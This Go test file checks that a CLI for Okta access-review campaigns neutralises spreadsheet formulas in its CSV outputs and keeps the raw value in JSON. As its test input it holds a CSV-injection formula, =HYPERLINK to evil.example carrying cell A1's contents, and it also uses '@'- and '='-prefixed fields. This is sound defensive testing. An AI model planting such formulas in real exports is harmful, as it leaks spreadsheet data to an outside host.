package main

import (
	"encoding/csv"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/attestbot/attest/internal/oktatest"
)

// formulaCells returns the cells of a CSV a spreadsheet would evaluate.
func formulaCells(t *testing.T, name, data string) []string {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	var bad []string
	for _, r := range rows {
		for _, c := range r {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				bad = append(bad, c)
			}
		}
	}
	return bad
}

// Every CSV the CLI writes — plan --csv, campaign report --format csv and
// each file of audit export — neutralises cells a spreadsheet would run,
// whether they come from Okta (a department) or from a reviewer (a
// comment); the JSON export keeps the value as given.
func TestCLICSVNeutralisesFormulas(t *testing.T) {
	const comment = `=HYPERLINK("https://evil.example/?d="&A1,"details")`
	c, srv := withOkta(t, smallOrg("managerId"))
	if err := srv.Update(func(o *oktatest.Org) error {
		for i := range o.Users {
			o.Users[i].Department = "@" + o.Users[i].Department
		}
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	c.ok("sync")
	org := srv.Org()
	owner := org.Users[1].Email
	def := c.write("q.yaml", "name: \"=Q4 review\"\nowner: "+owner+"\nstages: {self_attestation: {enabled: false}}\n")
	outputs := map[string]string{"plan --csv": c.ok("plan", def, "--csv")}
	var started campaignView
	c.json(&started, "campaign", "start", def, "--as", owner)
	id := strconv.FormatInt(started.ID, 10)
	report := c.ok("campaign", "report", id, "--format", "csv")
	rows, err := csv.NewReader(strings.NewReader(report)).ReadAll()
	if err != nil || len(rows) < 2 {
		t.Fatalf("report: %v, %d rows", err, len(rows))
	}
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	var member, app, reviewer string
	for _, r := range rows[1:] {
		if r[col["reviewer"]] != "IAM team" && r[col["kind"]] == "app" {
			member, app, reviewer = r[col["user_email"]], r[col["entitlement"]], r[col["reviewer"]]
			break
		}
	}
	if member == "" {
		t.Fatal("no manager-reviewed case")
	}
	c.ok("campaign", "answer", id, "--as", reviewer, "--user", member, "--app", app, "--decision", "revoke", "--comment", comment)
	outputs["campaign report --format csv"] = c.ok("campaign", "report", id, "--format", "csv")
	var files struct {
		Files []string `json:"files"`
	}
	c.json(&files, "audit", "export", "--campaign", id, "--out", filepath.Join(c.dir, "csv"))
	for _, f := range files.Files {
		data, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		outputs[filepath.Base(f)] = string(data)
	}
	for name, data := range outputs {
		if bad := formulaCells(t, name, data); len(bad) > 0 {
			t.Errorf("%s: cells a spreadsheet would evaluate: %q", name, bad)
		}
	}
	if !strings.Contains(outputs["campaign report --format csv"], `"'`+strings.ReplaceAll(comment, `"`, `""`)+`"`) {
		t.Errorf("report CSV lacks the neutralised comment:\n%s", outputs["campaign report --format csv"])
	}
	c.json(&files, "audit", "export", "--campaign", id, "--format", "json", "--out", c.dir)
	if data, err := os.ReadFile(files.Files[0]); err != nil || !strings.Contains(string(data), `"reviewer_comment": "=HYPERLINK(`) &&
		!strings.Contains(string(data), `"ReviewerComment": "=HYPERLINK(`) {
		t.Errorf("the JSON evidence must keep the comment as given (%v)", err)
	}
}
